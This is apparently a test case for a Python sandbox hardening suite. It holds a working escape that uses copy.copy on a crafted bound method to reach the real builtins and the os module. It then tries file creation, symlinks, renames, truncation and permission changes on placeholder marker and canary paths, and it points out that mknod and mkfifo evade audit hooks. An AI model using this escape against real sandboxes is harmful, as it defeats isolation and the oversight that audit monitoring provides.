# technique: real builtins and os through copy's reduction of a bound method (copy.py calls the real getattr), then every way to create MARKER_PATH or change the canary file: open(), os.open(O_CREAT), mkdir, symlink, link, rename, truncate, chmod, utime, append, and last mknod and mkfifo, which raise no audit event
# expect: any
import copy, json

class A:
    def m(self):
        pass

MethodType = type(A().m)

def peek(obj, name):
    # copy reduces a bound method to (getattr, (self, name)) and calls it in copy.py's frame
    def f():
        pass
    f.__name__ = name
    return copy.copy(MethodType(f, obj))

bi = peek(json.dumps, "__globals__")["__builtins__"]
os = bi["__import__"]("sys").modules["os"]
attempts = [
    lambda: bi["open"]("MARKER_PATH", "w").write("x"),
    lambda: os.open("MARKER_PATH", os.O_WRONLY | os.O_CREAT, 0o644),
    lambda: os.mkdir("MARKER_PATH"),
    lambda: os.symlink("CANARY_PATH", "MARKER_PATH"),
    lambda: os.link("CANARY_PATH", "MARKER_PATH"),
    lambda: os.rename("CANARY_PATH", "MARKER_PATH"),
    lambda: os.truncate("CANARY_PATH", 0),
    lambda: os.chmod("CANARY_PATH", 0o600),
    lambda: os.utime("CANARY_PATH", (0, 0)),
    lambda: bi["open"]("CANARY_PATH", "a").write("x"),
]
outcomes = []
for attempt in attempts:
    try:
        outcomes.append(repr(attempt()))
    except Exception as e:
        outcomes.append("%s: %s" % (type(e).__name__, e))
print(outcomes)
for make in (os.mknod, os.mkfifo):     # only the kernel is left
    try:
        make("MARKER_PATH")
    except OSError as e:
        print("%s: %s" % (type(e).__name__, e))
outcomes
